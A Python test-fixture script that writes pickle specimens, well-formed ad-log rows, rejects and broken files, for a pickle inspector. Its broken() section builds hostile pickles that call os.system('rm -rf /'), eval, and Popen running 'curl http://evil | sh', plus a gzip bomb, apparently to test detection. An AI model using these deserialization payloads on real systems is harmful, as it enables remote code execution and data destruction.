#!/usr/bin/env python3
"""Objects to be looked at with `inspect`: one of each shape, some with rejects, and some that are broken in one way each.

    python3 tests/oracle/specimens.py --out DIR

Beside them it writes `rows.json`: for each list of dicts where CPython's own disassembler sees its rows begin.
"""

import argparse
import collections
import decimal
import gzip
import json
import os
import pickle
import pickletools
import subprocess
import zlib

import shapes

TS = 1_718_000_000


def row(number, **more):
    ads = [{"aid": 4567, "_god": 889, "did": 12}]
    return dict(ts=TS + number, mid="m%d" % (number % 3), ads=ads, xreq=1, xres=1, xpsb=0, imp=1, clk=0, rev=12.5, **more)


def rows(count, **more):
    return [row(number, **more) for number in range(count)]


class Calls:
    """Pickled as a call of `function`, which unpickling would make."""

    def __init__(self, function, *arguments):
        self.made = (function, arguments)

    def __reduce__(self):
        return self.made


class Keeper:
    """Pickled through `__setstate__`, for a class that no log row needs."""

    def __init__(self):
        self.path = "/tmp"


def columns(listed):
    return {name: [row[name] for row in listed] for name in listed[0]}


def rejects():
    """Twelve rows, of which each but the first two is rejected for a reason of its own."""
    made = rows(12)
    made[2]["ts"] = None
    made[3]["ts"] = "soon"
    made[4]["ts"] = 5
    made[5]["mid"] = ["m1"]
    made[6]["mid"] = "m" * 65
    made[7]["ads"] = "[nonsense"
    made[8]["ads"] = [{"aid": 1, "did": "x"}]
    made[9]["clk"] = 1.5
    made[10]["xreq"] = -3
    made[11]["rev"] = decimal.Decimal("NaN")
    return made + ["no row", row(13, more=1) | {"rev": -0.5}]


def whole():
    """(name, body)"""
    yield "list", pickle.dumps(rows(5), 4)
    yield "list of protocol 0", pickle.dumps(rows(5), 0)
    yield "tuple", pickle.dumps(tuple(rows(5)), 2)
    yield "dumps of rows", b"".join(pickle.dumps(each, 3) for each in rows(5))
    yield "dumps of lists", pickle.dumps(rows(2), 1) + pickle.dumps(rows(3), 5)
    yield "columns", pickle.dumps(columns(rows(5)), 4)
    yield "mixed", pickle.dumps(rows(2), 4) + pickle.dumps(columns(rows(3)), 4)
    yield "empty list", pickle.dumps([], 4)
    unknown = [row(0, ua="한국어\x1b[31m", geo={"c": "KR"}), row(1, ua=None, geo=[1]), row(2, ua=b"x"), row(3)]
    yield "unknown fields", pickle.dumps(unknown, 4)
    typed = [row(0, n=1), row(1, n=2.5), row(2, n=float("nan")), row(3, n=None), row(4, n=2**70), row(5, n=True)]
    yield "types", pickle.dumps(typed + [row(6, n=decimal.Decimal("1.5")), row(7, n={1}), row(8, n=(1,))], 4)
    other = [{"time": TS, "mid": "m1"}]
    yield "fields that are missing", pickle.dumps(other, 4)
    yield "ads in JSON", pickle.dumps([dict(row(0), ads='[{"aid": 1, "_god": null, "x": "y"}]')], 4)
    yield "ordered dicts", pickle.dumps([collections.OrderedDict(row(0))], 2)
    yield "keys that are no text", pickle.dumps([{**row(0), 5: 1, (1, 2): 2, b"b": 3}], 4)
    yield "rejects", pickle.dumps(rejects(), 4)
    yield "rejects of protocol 0", pickle.dumps(rejects(), 0)
    spoilt = columns(rows(40))
    spoilt["imp"][33] = -5
    spoilt["ts"][7] = None
    yield "rejects in columns", pickle.dumps(spoilt, 4)
    many = rows(1001)
    yield "the C pickler", shapes.c_pickler(many, 4)
    yield "the Python pickler", shapes.python_pickler(many, 4)
    yield "no memo", shapes.fast_pickler(rows(3), 4)
    yield "Python 2", b"(lp0\n(dp1\nS'ts'\np2\nI1718000000\nsS'mid'\np3\nS'm1'\np4\nsa."


def broken():
    """(name, body as stored)"""
    honest = pickle.dumps(rows(30), 4)
    stored = gzip.compress(honest, mtime=0)
    yield "truncated gzip", gzip.compress(pickle.dumps(rows(3000), 4), 1, mtime=0)[:2000]
    yield "bad checksum", stored[:-8] + bytes([stored[-8] ^ 1]) + stored[-7:]
    yield "bad length", stored[:-1] + bytes([stored[-1] ^ 1])
    yield "trailing garbage", stored + b"garbage"
    yield "bomb", gzip.compress(pickle.dumps(rows(2), 4) + b"N0" * 3_000_000, mtime=0)
    yield "empty", b""
    for protocol in range(6):
        hostile = rows(3) + [dict(row(3), imp=Calls(os.system, "rm -rf /"))]
        yield "os.system of protocol %d" % protocol, pickle.dumps(hostile, protocol)
    yield "os.system after 1,500 rows", pickle.dumps(rows(1500) + [dict(row(3), clk=Calls(os.system, "id"))], 4)
    yield "os.system alone", pickle.dumps(Calls(os.system, "id"), 2)
    yield "os.system as the first byte", pickle.dumps(Calls(os.system, "id"), 0)
    yield "os.system as the first byte of the second dump", pickle.dumps(rows(2), 0) + pickle.dumps(Calls(os.system, "id"), 0)
    yield "eval", pickle.dumps([Calls(eval, "__import__('os').system('id')")], 4)
    yield "Popen", pickle.dumps([{"ts": Calls(subprocess.Popen, ["sh", "-c", "curl http://evil | sh"])}], 5)
    inner = Calls(getattr, Calls(__import__, "os"), "system")
    yield "a call of a call", pickle.dumps([Calls(map, inner, ["id"])], 4)
    yield "a class with a state", pickle.dumps([Keeper()], 2)
    yield "a name that is not called", pickle.dumps([os.system], 4)
    yield "state for a module", b"\x80\x02]cos\nenviron\n}X\x04\x00\x00\x00PATHX\x04\x00\x00\x00/tmpsba."
    yield "INST", b"(lp0\n(S'rm -rf /'\nios\nsystem\na."
    yield "OBJ", b"](cos\nsystem\nX\x02\x00\x00\x00idoa."
    yield "an escape sequence", pickle.dumps([Calls(os.system, "\x1b[2J" + "x" * 1000)], 4)
    yield "persistent id", b"\x80\x02](}X\x02\x00\x00\x00tsPtable 5\nse."
    yield "extension", b"\x80\x02]\x82\x05a."
    yield "unknown opcode", pickle.dumps(rows(3), 4)[:-2] + b"\xff."
    yield "memo that is not set", b"\x80\x02](}X\x02\x00\x00\x00tsK\x01s}X\x03\x00\x00\x00adsh\x63se."
    yield "truncated pickle", pickle.dumps(rows(3), 4)[:-20]
    yield "second dump truncated", pickle.dumps(rows(3), 4) + pickle.dumps(rows(2), 4)[:-9]
    yield "a number at the top", pickle.dumps(rows(2), 4) + pickle.dumps(5, 4)
    yield "unequal columns", pickle.dumps({"ts": [TS] * 3, "imp": [1]}, 4)
    yield "2000 nested lists", b"\x80\x02](}X\x01\x00\x00\x00x" + b"]" * 2000 + b"a" * 1999 + b"se."
    flat = zlib.compressobj(9, zlib.DEFLATED, 31)
    yield "deflate damaged", (lambda b: b[:60] + b"\xff" * 20 + b[80:])(flat.compress(honest) + flat.flush())


def row_offsets(body):
    """Where the dicts begin that are elements of the list at the top, by CPython's disassembler."""
    offsets, depth, lists = [], 0, 0
    for opcode, _, position in pickletools.genops(body):
        if opcode.name == "EMPTY_DICT" and depth == lists:
            offsets.append(position)
        if opcode.name == "MARK":
            depth += 1
        elif opcode.name in ("SETITEMS", "APPENDS"):
            depth -= 1
        if opcode.name == "EMPTY_LIST" and position < 20:
            lists = 1
    return offsets


def main():
    parser = argparse.ArgumentParser(description="Writes objects for `inspect` to look at.")
    parser.add_argument("--out", required=True, metavar="DIR")
    out = parser.parse_args().out
    for name, body in whole():
        with open(os.path.join(out, name + ".pkl"), "wb") as file:
            file.write(body)
    for name, body in broken():
        with open(os.path.join(out, name + ".pkl"), "wb") as file:
            file.write(body)
    with open(os.path.join(out, "compressed.pkl.gz"), "wb") as file:
        with gzip.GzipFile("ads-20240610.pkl", "wb", 9, file, mtime=TS) as stream:
            stream.write(pickle.dumps(rows(5), 4))
        file.write(gzip.compress(pickle.dumps(rows(2), 4), 1, mtime=0))
    with open(os.path.join(out, "rows.json"), "w") as file:
        json.dump({"rejects": row_offsets(pickle.dumps(rejects(), 4))}, file)


if __name__ == "__main__":
    main()
